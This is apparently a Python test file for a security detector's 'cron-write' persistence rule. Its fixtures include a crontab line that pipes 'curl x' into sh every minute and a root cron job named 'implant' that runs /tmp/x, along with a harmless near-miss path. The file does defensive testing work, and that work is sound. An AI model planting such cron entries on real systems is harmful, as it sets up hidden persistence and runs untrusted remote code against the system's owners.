"""cron-write: crontab entries run on schedule."""

from __future__ import annotations

from cujo_action.schema import CRON_WRITE

WRITES = {
    "/var/spool/cron/crontabs/runner": (None, "* * * * * curl x | sh\n"),
    "/etc/cron.d/implant": (None, "* * * * * root /tmp/x\n"),
}
HARMLESS = {
    "/etc/cron.daily.bak": (None, "x"),
}


def test_fires_on_each_write_the_harness_reports_and_names_the_path(persistence_rule):
    findings = persistence_rule.fires("cron-write", CRON_WRITE, WRITES)
    assert len(findings) == len(WRITES)


def test_near_misses_are_not_reported(persistence_rule):
    persistence_rule.misses("cron-write", HARMLESS)
